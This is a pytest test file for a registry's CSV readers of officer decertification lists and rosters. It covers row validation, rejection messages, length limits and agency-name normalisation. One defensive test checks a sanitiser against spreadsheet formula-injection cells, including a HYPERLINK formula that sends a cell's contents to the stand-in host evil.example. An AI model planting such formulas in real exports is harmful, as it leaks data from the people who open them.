"""Lists and rosters in the registry's own CSV formats read with every bad row explained."""

from __future__ import annotations

from datetime import date
from pathlib import Path

import pytest

from custodes.lists import (
    ListFormatError,
    Rejected,
    Service,
    normalise_agency,
    read_generic,
    read_roster,
)
from custodes.lists.csvtable import spreadsheet_safe
from tests.lists_data import FIXTURES

GENERIC = FIXTURES / "generic-list.csv"


def test_the_good_rows_of_a_generic_list_become_records() -> None:
    read = read_generic(GENERIC)
    assert [r.source_ref for r in read.records] == ["va-dcjs-1", "va-dcjs-2", "test-1", "test-12"]
    freeman, shifflett, example, sample = read.records
    assert (freeman.first_name, freeman.middle_name, freeman.last_name) == (
        "Deangelo",
        "M",
        "Freeman",
    )
    assert freeman.services == (Service("Hampton Police Division", "Hampton Police Department"),)
    assert (freeman.action_date, freeman.reason_category, freeman.line) == (
        date(2021, 1, 4),
        "drugs",
        2,
    )
    assert freeman.source == "generic-list.csv (Virginia DCJS)"
    assert freeman.extra == {"function": "Law Enforcment Officer"}
    # An empty status is in force; the jurisdiction is upper-cased.
    assert (shifflett.status, shifflett.jurisdiction) == ("active", "US-VA")
    assert shifflett.reason_category == "domestic abuse"
    assert example.other_names == ("Sample", "Specimen")
    assert (example.birth_date, example.birth_year, example.sex) == (date(1980, 2, 29), 1980, "F")
    assert [s.badge for s in example.services] == ["101", "A-17"]
    assert (example.list_type, example.status, example.reason_category) == (
        "barred",
        "expired",
        "sexual misconduct",
    )
    assert (sample.last_name, sample.extra["name_suffix"], sample.line) == ("Sample", "Jr.", 17)


def test_every_bad_row_is_rejected_with_its_line_field_and_reason() -> None:
    rejected = [(r.line, r.field, r.why) for r in read_generic(GENERIC).rejected]
    assert rejected == [
        (5, "first_name", "is empty; the field is required"),
        (6, "last_name", "is empty; the field is required"),
        (7, "birth_date", "'1980-13-01' is not a date: month must be in 1..12"),
        (8, "action_date", "'01/02/2021' is not a date in YYYY-MM-DD form"),
        (
            9,
            "list_type",
            "'banned' is not one of decertification, revocation, barred, advisory, "
            "left-under-investigation",
        ),
        (10, "status", "'removed' is not one of active, reinstated, expired"),
        (11, "sex", "'male' is not one of F, M, X"),
        (12, "person_ref", "'test-1' is already used on line 4"),
        (13, "birth_year", "'80s' is not a year"),
        (14, "", "has 10 fields where the header (line 1) has 17"),
        (15, "birth_year", "1970 disagrees with birth_date 1971-01-01"),
        (15, "sex", "'Q' is not one of F, M, X"),
        (15, "list_type", "is empty; the field is required"),
        (15, "jurisdiction", "is empty; the field is required"),
    ]
    assert str(read_generic(GENERIC).rejected[0]) == (
        "generic-list.csv, line 5, first_name: is empty; the field is required"
    )


def test_a_mapping_reads_a_list_that_names_its_columns_differently() -> None:
    mapping = {
        "person_ref": "ID",
        "first_name": "Forename",
        "last_name": "Surname",
        "agency": "Force",
        "list_type": "Type",
        "jurisdiction": "State",
        "reason": "Grounds",
        "action_date": "Date",
    }
    mapped = read_generic(FIXTURES / "generic-list-own-columns.csv", mapping)
    standard = read_generic(GENERIC).records[:2]
    assert mapped.rejected == []
    assert [
        (r.source_ref, r.last_name, r.services, r.reason, r.action_date) for r in mapped.records
    ] == [(r.source_ref, r.last_name, r.services, r.reason, r.action_date) for r in standard]


def test_a_missing_required_column_is_refused_naming_file_and_column(tmp_path: Path) -> None:
    path = tmp_path / "list.csv"
    path.write_text("person_ref,first_name,last_name,jurisdiction\n1,Pat,Example,US-VA\n")
    with pytest.raises(
        ListFormatError, match=r"list.csv, line 1: the required column 'list_type' is missing"
    ):
        read_generic(path)


def test_a_mapping_to_a_column_the_file_lacks_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ListFormatError, match=r"no column 'Surname' \(mapped to 'last_name'\)"):
        read_generic(GENERIC, {"last_name": "Surname"})
    with pytest.raises(
        ListFormatError, match=r"the mapping names 'surname', which is not a column"
    ):
        read_generic(GENERIC, {"surname": "last_name"})


def test_a_stray_quote_is_refused_naming_its_line(tmp_path: Path) -> None:
    path = tmp_path / "list.csv"
    path.write_text(
        "person_ref,first_name,last_name,list_type,jurisdiction\n"
        "1,Pat,Example,barred,GB-EAW\n"
        '2,Sam,"Sample,barred,GB-EAW\n'
        "3,Lee,Example,barred,GB-EAW\n"
    )
    with pytest.raises(ListFormatError, match=r"list.csv, line 3: cannot read the row") as error:
        read_generic(path)
    assert "stray or unclosed double quote" in str(error.value)


def test_a_quote_inside_a_field_is_refused_too(tmp_path: Path) -> None:
    path = tmp_path / "list.csv"
    path.write_text(
        "person_ref,first_name,last_name,list_type,jurisdiction\n"
        '1,"Pat"rick,Example,barred,GB-EAW\n'
    )
    with pytest.raises(ListFormatError, match=r"list.csv, line 2: cannot read the row"):
        read_generic(path)


def test_a_quoted_field_across_lines_keeps_the_next_row_on_its_own_line(tmp_path: Path) -> None:
    path = tmp_path / "list.csv"
    path.write_text(
        "person_ref,first_name,last_name,list_type,jurisdiction,reason\n"
        '1,Pat,Example,barred,GB-EAW,"Untruthful\nstatements"\n'
        "2,,Example,barred,GB-EAW,\n"
    )
    read = read_generic(path)
    assert read.records[0].reason == "Untruthful\nstatements"
    assert read.rejected == [
        Rejected("list.csv", 4, "first_name", "is empty; the field is required")
    ]


def test_a_file_that_is_not_utf8_is_refused_naming_the_line(tmp_path: Path) -> None:
    path = tmp_path / "list.csv"
    path.write_bytes(
        b"person_ref,first_name,last_name,list_type,jurisdiction\n1,Ren\xe9,X,barred,US\n"
    )
    with pytest.raises(ListFormatError, match=r"list.csv, line 2: not UTF-8 text"):
        read_generic(path)


def test_a_roster_reads_people_with_their_badges_and_refuses_bad_rows() -> None:
    read = read_roster(FIXTURES / "roster.csv")
    assert [p.person_ref for p in read.people] == ["r-1", "r-2"]
    alex, sam = read.people
    assert (alex.first_name, alex.middle_name, alex.last_name) == ("Alex", "J", "Example")
    assert alex.other_names == ("Specimen", "Sample")
    assert (alex.agency, alex.badges, alex.birth_year) == (
        "Springfield Police Department",
        ("101", "A-17"),
        1980,
    )
    assert (sam.sex, sam.birth_year, sam.agency, sam.badges, sam.line) == ("M", 1975, None, (), 3)
    assert [(r.line, r.field, r.why) for r in read.rejected] == [
        (4, "person_ref", "'r-2' is already used on line 3"),
        (5, "first_name", "is empty; the field is required"),
    ]


def test_a_roster_needs_only_the_roster_columns(tmp_path: Path) -> None:
    path = tmp_path / "roster.csv"
    path.write_text("person_ref,last_name,first_name\n7,Example,Pat\n")
    (person,) = read_roster(path).people
    assert (person.person_ref, person.first_name, person.birth_date, person.agency) == (
        "7",
        "Pat",
        None,
        None,
    )
    with pytest.raises(ListFormatError, match=r"the required column 'list_type' is missing"):
        read_generic(path)


LIST_HEADER = "person_ref,first_name,last_name,agency,badge,list_type,jurisdiction,reason\n"


def test_a_value_longer_than_the_registry_keeps_is_a_rejected_row(tmp_path: Path) -> None:
    path = tmp_path / "list.csv"
    path.write_text(
        LIST_HEADER
        + f"1,{'D' * 5000},Example,,,barred,GB-EAW,\n"
        + f"2,Sam,Sample,{'A' * 201},,barred,GB-EAW,\n"
        + f"3,Lee,Example,,{'9' * 33},barred,GB-EAW,\n"
        + f"4,Kim,Example,,,barred,{'G' * 17},\n"
        + f"{'R' * 161},Pat,Example,,,barred,GB-EAW,\n"
        + "6,Ann,Example,,,barred,GB-EAW,\n",
        encoding="utf-8",
    )
    read = read_generic(path)
    assert [(r.line, r.field, r.why) for r in read.rejected] == [
        (2, "first_name", "is 5,000 characters long; the most the field holds is 100"),
        (3, "agency", "is 201 characters long; the most the field holds is 200"),
        (4, "badge", "is 33 characters long; the most the field holds is 32"),
        (5, "jurisdiction", "is 17 characters long; the most the field holds is 16"),
        (6, "person_ref", "is 161 characters long; the most the field holds is 160"),
    ]
    assert [r.source_ref for r in read.records] == ["6"]


def test_a_roster_reference_longer_than_the_registry_keeps_is_a_rejected_row(
    tmp_path: Path,
) -> None:
    path = tmp_path / "roster.csv"
    path.write_text(
        f"person_ref,first_name,last_name\n{'X' * 65},Pat,Example\nXF-1,Sam,Sample\n",
        encoding="utf-8",
    )
    read = read_roster(path)
    assert [(r.line, r.field) for r in read.rejected] == [(2, "person_ref")]
    assert [p.person_ref for p in read.people] == ["XF-1"]


def test_a_field_too_long_for_any_reader_is_named_and_not_blamed_on_a_quote(
    tmp_path: Path,
) -> None:
    path = tmp_path / "list.csv"
    path.write_text(
        LIST_HEADER
        + "1,Pat,Example,,,barred,GB-EAW,\n"
        + f'2,Sam,Sample,,,barred,GB-EAW,"{"x" * 200_000}"\n',
        encoding="utf-8",
    )
    with pytest.raises(ListFormatError) as error:
        read_generic(path)
    assert str(error.value) == (
        "list.csv, line 3: the field 'reason' is longer than 131,072 characters, more than any "
        "field of a list or roster holds; nothing of the file was read"
    )


def test_a_long_field_is_refused_whatever_another_library_set_the_csv_limit_to(
    tmp_path: Path,
) -> None:
    # Frictionless (statistics) raises the csv module's global limit when it is imported; the
    # lists keep their own.
    import csv

    path = tmp_path / "list.csv"
    path.write_text(
        LIST_HEADER + f'2,Sam,Sample,,,barred,GB-EAW,"{"x" * 200_000}"\n', encoding="utf-8"
    )
    before = csv.field_size_limit(2**31 - 2)
    try:
        with pytest.raises(ListFormatError, match=r"line 2: the field 'reason' is longer than"):
            read_generic(path)
    finally:
        csv.field_size_limit(before)


def test_a_long_field_in_a_file_without_a_header_it_names_is_still_called_long(
    tmp_path: Path,
) -> None:
    path = tmp_path / "roster.csv"
    path.write_text(
        "person_ref,first_name,last_name\n" + f'1,Pat,Example,"{"y" * 140_000}"\n',
        encoding="utf-8",
    )
    with pytest.raises(ListFormatError, match=r"roster.csv, line 2: a field is longer than"):
        read_roster(path)


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
            '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        ),
        ("=1+2", "'=1+2"),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+2", "'\t=1+2"),
        ("\r=1+2", "'\r=1+2"),
        ("XF-101", "XF-101"),
        ("O'Brien", "O'Brien"),
        ("", ""),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(cell: str, written: str) -> None:
    assert spreadsheet_safe(cell) == written


def test_each_row_s_agency_is_named_as_its_jurisdiction_names_it_once_per_name(
    tmp_path: Path,
) -> None:
    """Virginia's directory only for Virginia's rows; each distinct name worked out once."""
    agencies = ("Hamptin Roads Regional Jail", "Hampton Police Department")
    jurisdictions = ("US-VA", "US-NC")
    path = tmp_path / "list.csv"
    path.write_text(
        LIST_HEADER
        + "".join(
            f"{n},Pat,Example,{agencies[n % 2]},,barred,{jurisdictions[n // 2 % 2]},\n"
            for n in range(2000)
        ),
        encoding="utf-8",
    )
    normalise_agency.cache_clear()
    read = read_generic(path)
    assert normalise_agency.cache_info().misses == 4  # 2,000 rows, 4 (name, jurisdiction)
    named = {(r.jurisdiction, r.services[0].agency_raw, r.services[0].agency) for r in read.records}
    assert named == {
        ("US-VA", "Hamptin Roads Regional Jail", "Hampton Roads Regional Jail"),
        ("US-VA", "Hampton Police Department", "Hampton Police Division"),
        ("US-NC", "Hamptin Roads Regional Jail", "Hamptin Roads Regional Jail"),
        ("US-NC", "Hampton Police Department", "Hampton Police Department"),
    }


def test_an_agency_too_long_once_its_abbreviations_are_spelt_out_is_a_rejected_row(
    tmp_path: Path,
) -> None:
    path = tmp_path / "list.csv"
    written = "A" * 196 + " PD"  # 199 characters as written, 214 spelt out
    path.write_text(
        LIST_HEADER + f"1,Pat,Example,{written},,barred,US-NC,\n2,Sam,Sample,PD,,barred,US-NC,\n",
        encoding="utf-8",
    )
    read = read_generic(path)
    assert [(r.line, r.field, r.why) for r in read.rejected] == [
        (2, "agency", "is 214 characters long; the most the field holds is 200")
    ]
    assert [r.services[0].agency for r in read.records] == ["Police Department"]


def test_a_roster_s_agencies_are_named_by_a_directory_only_when_its_jurisdiction_is_given(
    tmp_path: Path,
) -> None:
    path = tmp_path / "roster.csv"
    path.write_text("person_ref,first_name,last_name,agency\n1,Pat,Example,HAMPTON PD\n")
    assert [p.agency for p in read_roster(path).people] == ["Hampton Police Department"]
    in_virginia = read_roster(path, jurisdiction="US-VA")
    assert [p.agency for p in in_virginia.people] == ["Hampton Police Division"]
